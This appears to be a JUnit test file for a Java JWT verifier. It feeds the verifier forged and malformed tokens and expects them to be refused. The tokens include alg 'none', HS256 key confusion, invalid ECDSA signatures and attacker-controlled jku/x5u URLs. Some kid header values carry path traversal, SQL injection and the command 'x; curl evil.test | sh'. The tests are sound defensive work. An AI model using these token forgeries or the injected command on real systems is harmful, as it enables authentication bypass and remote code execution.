package io.gatehouse.token;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletionException;
import java.util.stream.Stream;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.crypto.impl.ECDSA;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.JWK;
import com.nimbusds.jose.jwk.OctetSequenceKey;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jose.util.StandardCharset;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.security.oauth2.jwt.Jwt;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.catchThrowable;

/**
 * Tests of {@link JwtVerifier} with malformed tokens and tokens whose signature proves
 * nothing: one row a case. The verifier trusts an RSA key for RS256, a P-256 key for
 * ES256 and an Ed25519 key.
 */
class JwtVerifierTokenFormTests {

	private static final JWK RSA = Tokens.key("RS256");

	private static final JWK EC = Tokens.key("ES256");

	private static final JWK ED = Tokens.key("EdDSA");

	private static final JWK STRANGER = Tokens.key("RS256", "stranger");

	private static final String PAYLOAD = Tokens.json(Tokens.claims());

	@TempDir
	@SuppressWarnings("NullAway.Init")
	static Path directory;

	@SuppressWarnings("NullAway.Init")
	private static JwtVerifier verifier;

	@BeforeAll
	static void trustKeys() {
		verifier = Tokens.verifier(Settings.settings()
			.keyLocation(Tokens.publish(directory.resolve("keys.json"), RSA, EC, ED))
			.algorithms("RS256", "ES256", "EdDSA")
			.build());
	}

	@ParameterizedTest
	@ValueSource(strings = { "RS256", "ES256", "EdDSA" })
	void decodeWhenTokenIsGoodThenItIsAccepted(String algorithm) {
		String token = Tokens.good(Tokens.key(algorithm));
		Jwt jwt = verifier.decode(token);
		assertThat(jwt.getTokenValue()).isEqualTo(token);
		assertThat(jwt.getSubject()).isEqualTo("alice");
		assertThat(jwt.getIssuedAt()).isEqualTo(Tokens.NOW);
		assertThat(jwt.getExpiresAt()).isEqualTo(Tokens.NOW.plusSeconds(300));
		assertThat(jwt.getAudience()).containsExactly(JwtVerifier.DEFAULT_AUDIENCE);
		assertThat(jwt.getHeaders()).containsEntry("alg", algorithm).containsEntry("typ", "at+jwt");
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource({ "algorithms", "signatures", "headers", "shapes", "texts", "documents" })
	void decodeWhenFormIsWrongThenReasonSaysSo(String name, String token, Reason reason) {
		assertThatExceptionOfType(InvalidTokenException.class).isThrownBy(() -> verifier.decode(token))
			.satisfies((ex) -> assertThat(ex.reason()).isEqualTo(reason))
			.withMessage(reason.detail());
	}

	static Stream<Arguments> algorithms() {
		List<Arguments> rows = new ArrayList<>();
		for (String none : List.of("none", "None", "NONE", "nOnE")) {
			String input = input(header("alg", none), PAYLOAD);
			Reason refusal = none.equals("none") ? Reason.MALFORMED_TOKEN : Reason.BAD_SIGNATURE;
			rows.add(row("alg " + none + " without a signature", input + ".", Reason.MALFORMED_TOKEN));
			rows.add(row("alg " + none + " with any signature", input + ".AAAA", refusal));
			rows.add(row("alg " + none + " with a signature by the key", signed(RSA, header("alg", none)), refusal));
		}
		confusedKeys().forEach((form, secret) -> rows.add(row("HS256 keyed with the public key as " + form,
				Tokens.sign(hmacKey(secret), header("alg", "HS256"), PAYLOAD), Reason.BAD_SIGNATURE)));
		for (String other : List.of("RS384", "PS256", "HS256", "rs256", "RS256 ", "ES256K", "dir", "A128GCMKW", "x")) {
			rows.add(row("alg '" + other + "' over an RS256 signature", signed(RSA, header("alg", other)),
					Reason.BAD_SIGNATURE));
		}
		rows.add(row("alg missing", signed(RSA, header("alg", null)), Reason.MALFORMED_TOKEN));
		rows.add(row("alg empty", signed(RSA, header("alg", "")), Reason.BAD_SIGNATURE));
		rows.add(row("alg not a string", signed(RSA, header("alg", List.of("RS256"))), Reason.MALFORMED_TOKEN));
		rows.add(row("alg of another key's type", signed(RSA, header("alg", "ES256")), Reason.BAD_SIGNATURE));
		return rows.stream();
	}

	private static Map<String, byte[]> confusedKeys() {
		try {
			byte[] der = RSA.toRSAKey().toRSAPublicKey().getEncoded();
			String pem = "-----BEGIN PUBLIC KEY-----\n"
					+ Base64.getMimeEncoder(64, new byte[] { '\n' }).encodeToString(der) + "\n-----END PUBLIC KEY-----";
			String jwk = RSA.toPublicJWK().toJSONString();
			return Map.of("DER", der, "PEM", pem.getBytes(StandardCharset.UTF_8), "PEM with a line end",
					(pem + "\n").getBytes(StandardCharset.UTF_8), "JWK", jwk.getBytes(StandardCharset.UTF_8), "modulus",
					RSA.toRSAKey().getModulus().decode());
		}
		catch (JOSEException ex) {
			throw new IllegalStateException(ex);
		}
	}

	private static OctetSequenceKey hmacKey(byte[] secret) {
		return new OctetSequenceKey.Builder(secret).algorithm(JWSAlgorithm.HS256).build();
	}

	static Stream<Arguments> signatures() {
		String good = Tokens.good(RSA);
		String input = good.substring(0, good.lastIndexOf('.'));
		String ecInput = input(Tokens.json(Tokens.header(EC)), PAYLOAD);
		String edInput = input(Tokens.json(Tokens.header(ED)), PAYLOAD);
		BigInteger order = Curve.P_256.toECParameterSpec().getOrder();
		return Stream.of(row("signature empty", input + ".", Reason.MALFORMED_TOKEN),
				row("signature missing", input, Reason.MALFORMED_TOKEN),
				row("signature of one byte", input + ".AA", Reason.BAD_SIGNATURE),
				row("signature of zeros", input + "." + Base64URL.encode(new byte[256]), Reason.BAD_SIGNATURE),
				row("signature too long", input + "." + Base64URL.encode(new byte[257]), Reason.BAD_SIGNATURE),
				row("signature of another token", input + "." + Tokens.signature(RSA, input + "x"),
						Reason.BAD_SIGNATURE),
				row("signature by a stranger's key", Tokens.sign(STRANGER, header("alg", "RS256"), PAYLOAD),
						Reason.BAD_SIGNATURE),
				row("signature by a stranger's key with its id", Tokens.good(STRANGER), Reason.BAD_SIGNATURE),
				row("ES256 with r=s=0", ecInput + "." + Base64URL.encode(new byte[64]), Reason.BAD_SIGNATURE),
				row("ES256 with r=0, s=1", ecInput + "." + ecdsa(BigInteger.ZERO, BigInteger.ONE),
						Reason.BAD_SIGNATURE),
				row("ES256 with r=1, s=0", ecInput + "." + ecdsa(BigInteger.ONE, BigInteger.ZERO),
						Reason.BAD_SIGNATURE),
				row("ES256 with r=s=n", ecInput + "." + ecdsa(order, order), Reason.BAD_SIGNATURE),
				row("ES256 in DER", ecInput + "." + der(Tokens.signature(EC, ecInput)), Reason.BAD_SIGNATURE),
				row("ES256 of 63 bytes", ecInput + "." + Base64URL.encode(new byte[63]), Reason.BAD_SIGNATURE),
				row("EdDSA of zeros", edInput + "." + Base64URL.encode(new byte[64]), Reason.BAD_SIGNATURE),
				row("EdDSA of 63 bytes", edInput + "." + Base64URL.encode(new byte[63]), Reason.BAD_SIGNATURE),
				row("EdDSA with S + L", edInput + "." + withOrderAdded(Tokens.signature(ED, edInput)),
						Reason.BAD_SIGNATURE));
	}

	private static Base64URL ecdsa(BigInteger r, BigInteger s) {
		byte[] signature = new byte[64];
		copyTo(signature, 32, r);
		copyTo(signature, 64, s);
		return Base64URL.encode(signature);
	}

	private static void copyTo(byte[] target, int end, BigInteger number) {
		byte[] bytes = number.toByteArray();
		int length = Math.min(bytes.length, 32);
		System.arraycopy(bytes, bytes.length - length, target, end - length, length);
	}

	private static Base64URL der(Base64URL signature) {
		try {
			return Base64URL.encode(ECDSA.transcodeSignatureToDER(signature.decode()));
		}
		catch (JOSEException ex) {
			throw new IllegalStateException(ex);
		}
	}

	/**
	 * Returns a second encoding of the signature (malleability, RFC 8032, section 8.4).
	 */
	private static Base64URL withOrderAdded(Base64URL signature) {
		BigInteger order = BigInteger.TWO.pow(252).add(new BigInteger("27742317777372353535851937790883648493"));
		byte[] bytes = signature.decode();
		BigInteger s = BigInteger.ZERO;
		for (int i = 63; i >= 32; i--) {
			s = s.shiftLeft(8).or(BigInteger.valueOf(bytes[i] & 0xff));
		}
		s = s.add(order);
		for (int i = 32; i < 64; i++) {
			bytes[i] = s.byteValue();
			s = s.shiftRight(8);
		}
		return Base64URL.encode(bytes);
	}

	static Stream<Arguments> headers() {
		JWK embedded = STRANGER.toPublicJWK();
		return Stream.of(
				row("jwk of a stranger who signed", signed(STRANGER, header("jwk", embedded.toJSONObject())),
						Reason.MALFORMED_TOKEN),
				row("jwk of the key that signed", signed(RSA, header("jwk", RSA.toPublicJWK().toJSONObject())),
						Reason.MALFORMED_TOKEN),
				row("jku", signed(STRANGER, header("jku", "https://evil.test/jwks")), Reason.MALFORMED_TOKEN),
				row("x5u", signed(STRANGER, header("x5u", "https://evil.test/cert")), Reason.MALFORMED_TOKEN),
				row("x5c", signed(STRANGER, header("x5c", List.of("MIIB"))), Reason.MALFORMED_TOKEN),
				row("crit unknown", signed(RSA, header("crit", List.of("exp"))), Reason.MALFORMED_TOKEN),
				row("crit empty", signed(RSA, header("crit", List.of())), Reason.MALFORMED_TOKEN),
				row("b64 false", signed(RSA, header("b64", false)), Reason.MALFORMED_TOKEN),
				row("b64 false and crit", signed(RSA, "{\"alg\":\"RS256\",\"b64\":false,\"crit\":[\"b64\"]}"),
						Reason.MALFORMED_TOKEN),
				row("enc", signed(RSA, header("enc", "A128GCM")), Reason.MALFORMED_TOKEN),
				row("zip", signed(RSA, header("zip", "DEF")), Reason.MALFORMED_TOKEN),
				row("kid of another key", signed(RSA, header("kid", "ES256")), Reason.BAD_SIGNATURE),
				row("kid in another case", signed(RSA, header("kid", "rs256")), Reason.BAD_SIGNATURE),
				row("kid as path", signed(RSA, header("kid", "../../../../dev/null")), Reason.BAD_SIGNATURE),
				row("kid as SQL", signed(RSA, header("kid", "x' UNION SELECT 'key")), Reason.BAD_SIGNATURE),
				row("kid as command", signed(RSA, header("kid", "x; curl evil.test | sh")), Reason.BAD_SIGNATURE),
				row("kid with a line end", signed(RSA, header("kid", "RS256\n")), Reason.MALFORMED_TOKEN),
				row("kid with NUL", signed(RSA, header("kid", "RS256\0")), Reason.MALFORMED_TOKEN),
				row("kid of 257 characters", signed(RSA, header("kid", "k".repeat(257))), Reason.MALFORMED_TOKEN),
				row("kid of 10 KB", signed(RSA, header("kid", "k".repeat(10_240))), Reason.MALFORMED_TOKEN),
				row("kid empty", signed(RSA, header("kid", "")), Reason.MALFORMED_TOKEN),
				row("kid not a string", signed(RSA, header("kid", 1)), Reason.MALFORMED_TOKEN),
				row("typ with a line end", signed(RSA, header("typ", "at+jwt\n")), Reason.MALFORMED_TOKEN),
				row("typ not a string", signed(RSA, header("typ", List.of("at+jwt"))), Reason.MALFORMED_TOKEN));
	}

	static Stream<Arguments> shapes() {
		String good = Tokens.good(RSA);
		String[] parts = good.split("\\.", -1);
		String general = "{\"payload\":\"%s\",\"signatures\":[{\"protected\":\"%s\",\"signature\":\"%s\"}]}"
			.formatted(parts[1], parts[0], parts[2]);
		String flattened = "{\"payload\":\"%s\",\"protected\":\"%s\",\"signature\":\"%s\"}".formatted(parts[1],
				parts[0], parts[2]);
		String jwe = Base64URL.encode("{\"alg\":\"RSA-OAEP\",\"enc\":\"A128GCM\"}") + ".AAAA.AAAA.AAAA.AAAA";
		return Stream
			.of(Map.entry("empty", ""), Map.entry("one segment", parts[0]),
					Map.entry("two segments", parts[0] + "." + parts[1]), Map.entry("four segments", good + ".AAAA"),
					Map.entry("five segments", good + ".AAAA.AAAA"), Map.entry("a JWE", jwe),
					Map.entry("a dot before", "." + good), Map.entry("a dot behind", good + "."),
					Map.entry("dots only", ".."), Map.entry("no header", "." + parts[1] + "." + parts[2]),
					Map.entry("no payload", parts[0] + ".." + parts[2]), Map.entry("JSON, flattened", flattened),
					Map.entry("JSON, general", general),
					Map.entry("longer than 16 KiB", signed(RSA, header("x", "y".repeat(12_000)))),
					Map.entry("a nested token", Tokens.sign(RSA, header("cty", "JWT"), good)),
					Map.entry("a million dots", ".".repeat(1_000_000)))
			.map((form) -> row(form.getKey(), form.getValue(), Reason.MALFORMED_TOKEN));
	}

	/** Returns other texts that encode the same bytes. */
	static Stream<Arguments> texts() {
		List<Arguments> rows = new ArrayList<>();
		String good = Tokens.good(RSA);
		String[] parts = good.split("\\.", -1);
		String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
		// 256 bytes leave four bits of the last character unused
		int last = alphabet.indexOf(good.charAt(good.length() - 1));
		for (int other = last - (last % 16); other < last - (last % 16) + 16; other++) {
			if (other != last) {
				rows.add(row("last character " + alphabet.charAt(other) + " for " + alphabet.charAt(last),
						good.substring(0, good.length() - 1) + alphabet.charAt(other), Reason.MALFORMED_TOKEN));
			}
		}
		for (String addition : List.of("=", "==", "!", " ", "\n", "\r\n", "\t", "\0", "\u00e9")) {
			String shown = addition.replaceAll("[^!-~]", "?") + " (" + (int) addition.charAt(0) + ")";
			rows.add(row(shown + " before the token", addition + good, Reason.MALFORMED_TOKEN));
			rows.add(row(shown + " behind the token", good + addition, Reason.MALFORMED_TOKEN));
			rows.add(row(shown + " inside the signature",
					parts[0] + "." + parts[1] + "." + parts[2].substring(0, 4) + addition + parts[2].substring(4),
					Reason.MALFORMED_TOKEN));
			rows.add(row(shown + " behind the header, signed", signedInput(parts[0] + addition + "." + parts[1]),
					Reason.MALFORMED_TOKEN));
			rows.add(row(shown + " behind the payload, signed", signedInput(parts[0] + "." + parts[1] + addition),
					Reason.MALFORMED_TOKEN));
		}
		byte[] letters = (PAYLOAD.substring(0, PAYLOAD.length() - 1) + ",\"x\":\"\u00fb\u00ff\u00fe~~~???>>>\"}")
			.getBytes(StandardCharsets.UTF_8);
		String standard = Base64.getEncoder().withoutPadding().encodeToString(letters);
		assertThat(standard).containsAnyOf("+", "/");
		rows.add(row("the alphabet with + and /, signed", signedInput(parts[0] + "." + standard),
				Reason.MALFORMED_TOKEN));
		return rows.stream();
	}

	/** Returns texts that are not exactly one JSON object. */
	static Stream<Arguments> documents() {
		List<Arguments> rows = new ArrayList<>();
		String head = Tokens.json(Tokens.header(RSA));
		for (String other : List.of("null", "[]", "[{}]", "\"x\"", "1", "true", " ", "{", "{}x", "\ufeff" + PAYLOAD,
				PAYLOAD + "{}", PAYLOAD + " x", PAYLOAD.replace('"', '\''), "// c\n" + PAYLOAD,
				PAYLOAD.replace("}", ",}"))) {
			String shown = (other.length() > 12) ? other.substring(0, 6) + "…" + other.substring(other.length() - 4)
					: other;
			rows.add(row("payload " + shown, Tokens.sign(RSA, head, other), Reason.MALFORMED_TOKEN));
		}
		for (String other : List.of("null", "[]", "\"x\"", "1", "{", "{}", "\ufeff" + head, head + "x",
				head.replace('"', '\''))) {
			rows.add(row("header " + other, signed(RSA, other), Reason.MALFORMED_TOKEN));
		}
		rows.add(row("alg twice", signed(RSA, "{\"alg\":\"RS256\",\"typ\":\"at+jwt\",\"alg\":\"RS256\"}"),
				Reason.MALFORMED_TOKEN));
		for (String twice : List.of("\"sub\":\"alice\"", "\"s\\u0075b\":\"root\"", "\"n\":null,\"n\":1",
				"\"o\":{\"a\":1,\"a\":2}", "\"o\":{\"a\":1,\"\\u0061\":2}",
				"\"o\":[{\"b\":{\"a\":1,\"c\":[],\"a\":{}}}]")) {
			rows.add(row("twice: " + twice, Tokens.sign(RSA, head, PAYLOAD.replace("}", "," + twice + "}")),
					Reason.MALFORMED_TOKEN));
		}
		for (int depth : List.of(300, 4_000, 100_000)) {
			String deep = "\"o\":" + "[".repeat(depth) + "]".repeat(depth);
			rows.add(row("arrays " + depth + " deep", Tokens.sign(RSA, head, PAYLOAD.replace("}", "," + deep + "}")),
					Reason.MALFORMED_TOKEN));
			rows.add(row("objects " + depth + " deep", signed(RSA, "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)),
					Reason.MALFORMED_TOKEN));
		}
		byte[] latin = PAYLOAD.replace("alice", "\u00e9").getBytes(StandardCharsets.ISO_8859_1);
		rows.add(row("payload not UTF-8", Tokens.sign(RSA, head.getBytes(StandardCharsets.UTF_8), latin),
				Reason.MALFORMED_TOKEN));
		rows.add(row("payload in UTF-16",
				Tokens.sign(RSA, head.getBytes(StandardCharsets.UTF_8), PAYLOAD.getBytes(StandardCharsets.UTF_16)),
				Reason.MALFORMED_TOKEN));
		return rows.stream();
	}

	@Test
	void decodeWhenMembersOfDifferentObjectsHaveOneNameThenTokenIsAccepted() {
		String nested = PAYLOAD.replace("}",
				",\"a\":{\"sub\":{\"a\":1}},\"b\":[{\"a\":1},{\"a\":\"{\\\"a\\\":1,\\\"a\\\":2}\"}],\"c\":\"a\"}");
		assertThat(verifier.decode(Tokens.sign(RSA, Tokens.json(Tokens.header(RSA)), nested)).getSubject())
			.isEqualTo("alice");
	}

	@Tag("exhaustive")
	@ParameterizedTest
	@ValueSource(strings = { "RS256", "ES256", "EdDSA" })
	void decodeWhenAnyBitIsFlippedThenTokenIsRefused(String algorithm) {
		byte[] token = Tokens.good(Tokens.key(algorithm)).getBytes(StandardCharsets.ISO_8859_1);
		// five and eight have no common factor, so each position in an octet has its turn
		int step = Boolean.getBoolean("gatehouse.test.long") ? 1 : 5;
		for (int bit = 0; bit < token.length * 8; bit += step) {
			byte[] flipped = token.clone();
			flipped[bit / 8] ^= (byte) (1 << (bit % 8));
			String text = new String(flipped, StandardCharsets.ISO_8859_1);
			assertThat(catchThrowable(() -> verifier.decode(text))).as("bit %s", bit)
				.isInstanceOf(InvalidTokenException.class);
		}
	}

	@Tag("exhaustive")
	@ParameterizedTest
	@ValueSource(strings = { "alg", "typ", "cty", "kid", "crit", "b64", "jku", "jwk", "x5u", "x5c", "x5t", "x5t#S256",
			"enc", "zip", "epk", "apu", "apv", "iv", "tag", "p2s", "p2c", "sub", "iss", "aud", "url", "nonce", "svt" })
	void decodeWhenHeaderHasAnyShapeThenNothingButRefusalIsThrown(String name) {
		for (Object value : Arrays.asList(null, true, 0, -1, 1.5, "", "x", List.of(), List.of("x"), List.of(1),
				Map.of(), Map.of("kty", "RSA"))) {
			Map<String, @Nullable Object> changed = Tokens.header(RSA);
			changed.put(name, value);
			String token = signed(RSA, Tokens.json(changed));
			Throwable thrown = catchThrowable(() -> verifier.decode(token));
			assertThat(thrown == null || thrown instanceof InvalidTokenException).as("%s = %s: %s", name, value, thrown)
				.isTrue();
		}
	}

	/**
	 * ECDSA signatures are malleable: (r, n - s) is as valid as (r, s). A denylist of
	 * token texts or hashes misses the second token; the claims by which Gatehouse
	 * revokes tokens stay the same.
	 */
	@Test
	void decodeWhenEcdsaSignatureIsMirroredThenRevocableClaimsAreTheSame() {
		String good = Tokens.good(EC);
		int dot = good.lastIndexOf('.');
		byte[] signature = new Base64URL(good.substring(dot + 1)).decode();
		BigInteger r = new BigInteger(1, Arrays.copyOf(signature, 32));
		BigInteger s = new BigInteger(1, Arrays.copyOfRange(signature, 32, 64));
		String mirrored = good.substring(0, dot) + "."
				+ ecdsa(r, Curve.P_256.toECParameterSpec().getOrder().subtract(s));
		assertThat(mirrored).isNotEqualTo(good);
		assertThat(verifier.decode(mirrored).getClaims()).isEqualTo(verifier.decode(good).getClaims());
	}

	@Test
	void verifyWhenTokenIsBadThenFutureFailsAndNothingIsThrown() {
		assertThatExceptionOfType(CompletionException.class).isThrownBy(() -> verifier.verify("x").join())
			.withCauseInstanceOf(InvalidTokenException.class);
		assertThatExceptionOfType(CompletionException.class)
			.isThrownBy(() -> verifier.verify(Tokens.good(STRANGER)).join())
			.withCauseInstanceOf(InvalidTokenException.class);
	}

	@Test
	void toStringWhenTokenIsParsedThenItShowsNeitherClaimsNorSignature() {
		String token = Tokens.good(RSA);
		assertThat(CompactJws.parse(token, token.length(), new ConfirmedHeaders()).toString()).doesNotContain("alice")
			.doesNotContain("4e2c")
			.doesNotContain(token.substring(token.lastIndexOf('.') + 1));
	}

	private static Arguments row(String name, String token, Reason reason) {
		return Arguments.of(name, token, reason);
	}

	private static String header(String name, @Nullable Object value) {
		Map<String, @Nullable Object> header = Tokens.header(RSA);
		if (value != null) {
			header.put(name, value);
		}
		else {
			header.remove(name);
		}
		return Tokens.json(header);
	}

	private static String input(String header, String payload) {
		return Base64URL.encode(header) + "." + Base64URL.encode(payload);
	}

	private static String signed(JWK key, String header) {
		return Tokens.sign(key, header, PAYLOAD);
	}

	private static String signedInput(String input) {
		return input + "." + Tokens.signature(RSA, input);
	}

}
